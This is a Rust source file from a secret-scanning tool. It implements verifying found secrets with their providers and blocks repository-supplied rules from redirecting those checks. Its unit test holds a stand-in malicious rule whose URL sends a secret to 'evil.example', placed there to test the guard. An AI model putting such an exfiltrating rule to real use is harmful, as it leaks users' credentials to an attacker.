//! `secretscan scan --verify`: asking providers about the secrets that were found.

use std::collections::{BTreeSet, HashMap};
use std::io::{self, Write};
use std::sync::Arc;

use secretscan_detect::{HttpCheck, Rule, RuleSet};
use secretscan_git::LocatedFinding;
use secretscan_model::Verification;
use secretscan_report::{ReportedFinding, escape_for_terminal};
use secretscan_verify::{Question, Verifier};

use crate::failure::Failure;
use crate::progress::Progress;

/// Whether to ask.
#[derive(clap::Args)]
pub struct VerifyArguments {
    /// Ask providers which secrets are in use: sends each secret to the host that its rule names
    #[arg(long)]
    verify: bool,

    /// Report only secrets that are in use
    #[arg(long, requires = "verify")]
    only_valid: bool,
}

impl VerifyArguments {
    /// Gets ready, so that what is missing does not cost a long scan. Checks that a repository brings are not used:
    /// they could send secrets anywhere.
    pub fn prepare(&self, rules: Arc<RuleSet>, are_of_repository: bool) -> anyhow::Result<Asking> {
        let verifier = self.verify.then(Verifier::new).transpose().map_err(|cause| {
            let hint = "install the ca-certificates of your system, or name a file of them in SSL_CERT_FILE";
            Failure::caused_by(cause, "cannot ask anybody", hint)
        })?;
        Ok(Asking { verifier, only_valid: self.only_valid, rules, are_of_repository })
    }
}

/// Ready to ask, if that is wanted.
pub struct Asking {
    verifier: Option<Verifier>,
    only_valid: bool,
    rules: Arc<RuleSet>,
    are_of_repository: bool,
}

impl Asking {
    /// Asks about the findings, and adds the answers to what is reported of them.
    pub fn ask<'a>(
        &self,
        found: &[LocatedFinding],
        reported: Vec<ReportedFinding<'a>>,
    ) -> Vec<ReportedFinding<'a>> {
        let Some(verifier) = &self.verifier else { return reported };
        let answers = self.answers(verifier, found);
        let before = reported.len();
        let kept: Vec<_> = (reported.into_iter().zip(answers))
            .filter(|(_, answer)| !self.only_valid || answer == &Some(Verification::Valid))
            .map(|(reported, answer)| reported.with_verification(answer))
            .collect();
        match before - kept.len() {
            0 => {}
            1 => note("1 finding that is not known to be in use is left out"),
            n => note(&format!("{n} findings that are not known to be in use are left out")),
        }
        kept
    }

    /// For each finding what the provider said; `None` where nobody can be asked.
    fn answers(&self, verifier: &Verifier, found: &[LocatedFinding]) -> Vec<Option<Verification>> {
        let builtin = secretscan_rules::builtin();
        let checks = checks(&self.rules, &builtin, self.are_of_repository);
        let check = |located: &LocatedFinding| {
            checks
                .get(located.finding.rule_id.as_str())
                .copied()
                .filter(|check| check.is_for(&located.secret))
        };
        let (asked, questions): (Vec<usize>, Vec<Question<'_>>) = (found.iter().enumerate())
            .filter_map(|(index, located)| {
                let LocatedFinding { finding, secret } = located;
                let (rule, hash) = (&finding.rule_id, &finding.secret_hash);
                check(located).map(|check| (index, Question { rule, check, secret, hash }))
            })
            .unzip();
        if !questions.is_empty() {
            let hosts: BTreeSet<&str> =
                questions.iter().map(|question| question.check.host.as_str()).collect();
            note(&format!("asking {}", Vec::from_iter(hosts).join(", ")));
        }
        let _progress = Progress::start("asking providers");
        let mut answers = vec![None; found.len()];
        for (index, answer) in asked.into_iter().zip(verifier.verify(&questions)) {
            answers[index] = Some(answer);
        }
        answers
    }
}

/// The checks that are used, by rule. Of a repository's rules only those that are as they came with the program keep
/// their checks, and only the checks that came with them.
fn checks<'a>(
    rules: &'a RuleSet,
    builtin: &'a RuleSet,
    are_of_repository: bool,
) -> HashMap<&'a str, &'a HttpCheck> {
    let original = |rule: &Rule| {
        builtin.rules().iter().find(|known| known.id == rule.id && known.regex() == rule.regex())
    };
    let mut is_left_out = false;
    let mut checks = HashMap::new();
    for rule in rules.rules() {
        let own = rule.verify.as_ref();
        let used = if are_of_repository { original(rule).and_then(|rule| rule.verify.as_ref()) } else { own };
        is_left_out |= used != own;
        checks.extend(used.map(|check| (rule.id.as_str(), check)));
    }
    if is_left_out {
        note("checks in the repository's rules are not used; --rules FILE uses those in the file");
    }
    checks
}

/// Where standard error is closed, nobody listens.
fn note(text: &str) {
    let _ = writeln!(io::stderr(), "note: {}", escape_for_terminal(text));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_repository_can_not_send_secrets_anywhere() {
        let check = "[rules.verify]\nurl = 'https://evil.example/{{secret}}'\nvalid.status = [200]\n";
        let rules = format!(
            "[extend]\nuseDefault = true\n[[rules]]\nid = 'own'\nregex = 'abcd'\n{check}\
             [[rules]]\nid = 'github-token'\n{check}[[rules]]\nid = 'npm-access-token'\nregex = 'abcd'\n"
        );
        let rules = RuleSet::parse(&rules, "rules.toml", Some(&secretscan_rules::builtin())).unwrap();
        let builtin = secretscan_rules::builtin();
        let host = |are_of_repository, rule: &str| {
            checks(&rules, &builtin, are_of_repository).get(rule).map(|check| check.host.clone())
        };
        assert_eq!(host(true, "own"), None);
        assert_eq!(host(true, "github-token").as_deref(), Some("api.github.com"));
        assert_eq!(host(true, "npm-access-token"), None);
        assert_eq!(host(true, "notion-token").as_deref(), Some("api.notion.com"));
        assert_eq!(host(false, "own").as_deref(), Some("evil.example"));
        assert_eq!(host(false, "github-token").as_deref(), Some("evil.example"));
    }
}
